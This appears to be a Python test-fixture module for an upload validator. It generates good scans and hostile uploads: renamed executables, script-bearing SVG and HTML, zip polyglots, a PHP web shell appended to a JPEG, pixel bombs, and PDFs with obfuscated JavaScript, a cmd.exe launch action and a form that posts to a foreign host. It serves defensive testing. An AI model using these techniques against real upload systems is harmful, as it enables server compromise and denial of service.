"""Good and hostile uploads, built in memory: every function gives (declared name, bytes)."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image, ImageDraw
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

Upload = tuple[str, bytes]


def paper(width: int = 900, height: int = 1200, seed: int = 1) -> Image.Image:
    """A page of print: rows of small dark strokes on white, sharp enough to read."""
    dice = random.Random(seed)
    page = Image.new("RGB", (width, height), "white")
    pen = ImageDraw.Draw(page)
    for y in range(60, height - 60, 28):
        x = 60
        while x < width - 80:
            for _ in range(5):
                a, b = dice.randrange(14), dice.randrange(14)
                pen.line((x + a, y + b, x + dice.randrange(14), y + dice.randrange(14)), fill=(20, 20, 30), width=2)
            x += dice.choice((16, 16, 16, 40))
    return page


def encoded(picture: Image.Image, kind: str, **options: object) -> bytes:
    """The picture as bytes of a Pillow format (JPEG, PNG, GIF …)."""
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def chunk(name: bytes, body: bytes) -> bytes:
    """One PNG chunk."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def archive() -> bytes:
    """A small zip with a script in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("run.sh", "#!/bin/sh\necho harm\n")
    return out.getvalue()


# ---- good files ---------------------------------------------------------------------------------------------------


def good_jpg() -> Upload:
    """A readable scan."""
    return "毕业证书.jpg", encoded(paper(), "JPEG", quality=85)


def good_png() -> Upload:
    """A readable scan as PNG."""
    return "学位证书.png", encoded(paper(seed=2), "PNG")


def phone_jpg() -> Upload:
    """A phone photo: lying on its side, with GPS, camera name and a comment; red top edge once upright."""
    upright = paper(600, 800)
    ImageDraw.Draw(upright).rectangle((0, 0, 600, 40), fill=(220, 0, 0))
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "SecretPhoneMaker"
    exif.get_ifd(0x8825).update({1: "N", 2: (25.0, 2.0, 11.0), 3: "E", 4: (102.0, 42.0, 31.0)})
    lying = upright.transpose(Image.Transpose.ROTATE_90)
    return "IMG_001.jpg", encoded(lying, "JPEG", exif=exif, comment=b"SecretComment", quality=90)


def several_pictures_jpg() -> Upload:
    """A phone photo in the MPO form: a second picture follows the first and is announced."""
    return "双摄.jpg", encoded(paper(), "MPO", save_all=True, append_images=[paper(seed=9)])


def good_pdf(pages: int = 3) -> Upload:
    """A scanned PDF of several pages."""
    out = io.BytesIO()
    sheets = [paper(seed=n) for n in range(pages)]
    sheets[0].save(out, "PDF", save_all=True, append_images=sheets[1:], title="职称申报表")
    return "职称申报表（三页）.pdf", out.getvalue()


def form_pdf() -> Upload:
    """A PDF with a filled form field, as units often send."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(good_pdf(1)[1])))
    field = DictionaryObject(
        {
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject("姓名"),
            NameObject("/V"): TextStringObject("李䶮"),
        }
    )
    fields = ArrayObject([writer._add_object(field)])
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): fields})
    return "填好的表.pdf", _written(writer)


# ---- hostile files ------------------------------------------------------------------------------------------------


def empty() -> Upload:
    """Nothing at all."""
    return "空.jpg", b""


def renamed_program() -> Upload:
    """An ELF program called .jpg."""
    return "毕业证书.jpg", b"\x7fELF\x02\x01\x01" + bytes(9) + random.Random(3).randbytes(4000)


def renamed_windows_program() -> Upload:
    """A Windows program called .pdf."""
    return "申报表.pdf", b"MZ\x90\x00" + random.Random(4).randbytes(4000)


def svg() -> Upload:
    """A drawing that carries script."""
    return "图.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def html() -> Upload:
    """A page that carries script."""
    return "图.jpg", b"<!doctype html><script>alert(1)</script>"


def gif() -> Upload:
    """A picture of a kind that is not asked for."""
    return "动图.jpg", encoded(Image.new("P", (20, 20)), "GIF")


def bare_zip() -> Upload:
    """An archive."""
    return "业绩汇总.zip", archive()


def zip_in_jpg() -> Upload:
    """An archive behind a picture: opens as both."""
    return "全家福.jpg", good_jpg()[1] + archive()


def zip_in_png() -> Upload:
    """An archive behind a PNG."""
    return "证书.png", good_png()[1] + archive()


def zip_in_pdf() -> Upload:
    """An archive behind a PDF, closed by a second end mark."""
    return "证书.pdf", good_pdf(1)[1] + archive() + b"\n%%EOF\n"


def zip_in_comment_jpg() -> Upload:
    """An archive inside a comment segment near the end of a JPEG: no byte follows the picture."""
    body, packed = encoded(Image.new("RGB", (30, 30)), "JPEG"), archive()
    return "小图.jpg", body[:2] + b"\xff\xfe" + struct.pack(">H", len(packed) + 2) + packed + body[2:]


def script_behind_jpg() -> Upload:
    """A server script behind a picture."""
    return "头像.jpg", good_jpg()[1] + b"<?php system($_GET['c']); ?>"


def film_behind_jpg() -> Upload:
    """A motion photo: a film follows the picture."""
    return "MVIMG.jpg", good_jpg()[1] + b"\x00\x00\x00\x18ftypmp42" + bytes(500)


def half_jpg() -> Upload:
    """An upload that broke off."""
    data = good_jpg()[1]
    return "证书.jpg", data[: len(data) // 2]


def half_png() -> Upload:
    """An upload that broke off."""
    data = good_png()[1]
    return "证书.png", data[: len(data) // 2]


def half_pdf() -> Upload:
    """An upload that broke off."""
    data = good_pdf()[1]
    return "证书.pdf", data[: len(data) // 2]


def starved_png() -> Upload:
    """A PNG with sound chunks, but too few pixels in them."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 400, 400, 8, 2, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(bytes(1000)))
    return "缺.png", b"\x89PNG\r\n\x1a\n" + head + body + chunk(b"IEND", b"")


def bomb_png(side: int = 50_000) -> Upload:
    """A few hundred kilobytes that unfold into side² pixels."""
    packer = zlib.compressobj(9)
    row = bytes(1 + side // 8)
    body = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    return "扫描.png", b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def bomb_jpg() -> Upload:
    """A small JPEG whose header claims 65,000 × 65,000."""
    data = bytearray(encoded(Image.new("RGB", (16, 16)), "JPEG"))
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", 65_000, 65_000)
    return "扫描.jpg", bytes(data)


def scans_jpg() -> Upload:
    """A progressive JPEG whose last scan is repeated a thousand times."""
    data = encoded(paper(64, 64), "JPEG", progressive=True)
    last = data.rindex(b"\xff\xda")
    return "慢.jpg", data[:last] + data[last:-2] * 1000 + data[-2:]


def encrypted_pdf() -> Upload:
    """A PDF that asks for a password."""
    return "加密.pdf", _encrypted("s3cret")


def restricted_pdf() -> Upload:
    """A PDF that opens without a password but forbids printing."""
    return "限制.pdf", _encrypted("")


def script_pdf() -> Upload:
    """A PDF that runs a named JavaScript when opened."""
    writer = _copy_of_good_pdf()
    script = writer._add_object(_action("/JavaScript", "/JS", "app.alert(1)"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("start"), script])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return "脚本.pdf", _written(writer)


def open_action_pdf() -> Upload:
    """A PDF whose open action is a script; no name tree tells of it."""
    writer = _copy_of_good_pdf()
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(_action("/JavaScript", "/JS", "app.alert(1)"))
    return "脚本二.pdf", _written(writer)


def hidden_script_pdf() -> Upload:
    """The same with the name written as /#4a#61vaScript, which readers decode."""
    data = open_action_pdf()[1].replace(b"/JavaScript", b"/#4a#61vaScript").replace(b"/JS ", b"/#4aS ")
    return "脚本三.pdf", data


def packed_script_pdf() -> Upload:
    """A script inside a compressed object stream: not to be seen in the plain text."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
    ]
    offsets, body = [], b""
    for number, text in enumerate(objects, 1):
        offsets.append(b"%d %d" % (number, len(body)))
        body += text + b" "
    heading = b" ".join(offsets) + b" "
    packed = zlib.compress(heading + body)
    data = b"%PDF-1.7\n"
    stream_at = len(data)
    data += b"5 0 obj<</Type/ObjStm/N 4/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(heading), len(packed))
    data += packed + b"\nendstream endobj\n"
    table = struct.pack(">BHB", 0, 0, 0) + b"".join(struct.pack(">BHB", 2, 5, n) for n in range(4))
    table_at = len(data)
    table += struct.pack(">BHB", 1, stream_at, 0) + struct.pack(">BHB", 1, table_at, 0)
    data += b"6 0 obj<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return "脚本四.pdf", data + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % table_at


def unlisted_script_pdf() -> Upload:
    """A script in an object that the cross-reference table does not list; readers that repair files find it."""
    data = good_pdf(1)[1]
    table = data[data.rindex(b"startxref") :]
    return "脚本五.pdf", data + b"\n99 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n" + table


def launch_pdf() -> Upload:
    """A PDF that starts a program."""
    writer = _copy_of_good_pdf()
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(_action("/Launch", "/F", "cmd.exe"))
    return "启动.pdf", _written(writer)


def posting_pdf() -> Upload:
    """A PDF that sends its form to a foreign address."""
    writer = _copy_of_good_pdf()
    action = _action("/SubmitForm", "/F", "http://example.invalid/")
    writer.root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): action})
    return "回传.pdf", _written(writer)


def attachment_pdf() -> Upload:
    """A PDF that carries another file."""
    writer = _copy_of_good_pdf()
    writer.add_attachment("run.exe", b"MZ\x90\x00")
    return "夹带.pdf", _written(writer)


def xfa_pdf() -> Upload:
    """A PDF with an XFA form."""
    writer = _copy_of_good_pdf()
    form = DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>"), NameObject("/Fields"): ArrayObject()})
    writer.root_object[NameObject("/AcroForm")] = form
    return "动态表单.pdf", _written(writer)


def many_pages_pdf(pages: int = 60) -> Upload:
    """A PDF with more pages than a slot takes."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    return "全书.pdf", _written(writer)


def bomb_pdf() -> Upload:
    """A PDF whose picture claims 50,000 × 50,000."""
    writer = _copy_of_good_pdf()
    picture = next(o for o in writer._objects if isinstance(o, DictionaryObject) and o.get("/Subtype") == "/Image")
    picture[NameObject("/Width")] = picture[NameObject("/Height")] = NumberObject(50_000)
    return "扫描.pdf", _written(writer)


def tail_pdf() -> Upload:
    """A PDF with a program behind it."""
    return "尾巴.pdf", good_pdf(1)[1] + renamed_program()[1]


def header_only_pdf() -> Upload:
    """Only the first and the last line of a PDF."""
    return "空壳.pdf", b"%PDF-1.7\n%%EOF\n"


GOOD: tuple[Callable[[], Upload], ...] = (good_jpg, good_png, phone_jpg, several_pictures_jpg, good_pdf, form_pdf)

# Each hostile upload with the code by which it is refused.
HOSTILE: dict[Callable[[], Upload], str] = {
    empty: "file.empty",
    renamed_program: "file.kind",
    renamed_windows_program: "file.kind",
    svg: "file.kind",
    html: "file.kind",
    gif: "file.kind",
    bare_zip: "file.kind",
    zip_in_jpg: "file.polyglot",
    zip_in_png: "file.polyglot",
    zip_in_pdf: "file.polyglot",
    zip_in_comment_jpg: "file.polyglot",
    script_behind_jpg: "file.polyglot",
    film_behind_jpg: "file.polyglot",
    tail_pdf: "file.polyglot",
    half_jpg: "file.truncated",
    half_png: "file.truncated",
    half_pdf: "file.truncated",
    starved_png: "file.truncated",
    header_only_pdf: "file.truncated",
    bomb_png: "file.too_many_pixels",
    bomb_jpg: "file.too_many_pixels",
    bomb_pdf: "file.too_many_pixels",
    scans_jpg: "file.too_complex",
    encrypted_pdf: "file.encrypted",
    restricted_pdf: "file.encrypted",
    script_pdf: "file.active_content",
    open_action_pdf: "file.active_content",
    hidden_script_pdf: "file.active_content",
    packed_script_pdf: "file.active_content",
    unlisted_script_pdf: "file.active_content",
    launch_pdf: "file.active_content",
    posting_pdf: "file.active_content",
    attachment_pdf: "file.active_content",
    xfa_pdf: "file.active_content",
    many_pages_pdf: "file.too_many_pages",
}


def _action(kind: str, key: str, value: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)})


def _copy_of_good_pdf() -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(good_pdf(1)[1])))


def _encrypted(user_password: str) -> bytes:
    writer = _copy_of_good_pdf()
    writer.encrypt(user_password, "owner", algorithm="AES-256")
    return _written(writer)


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
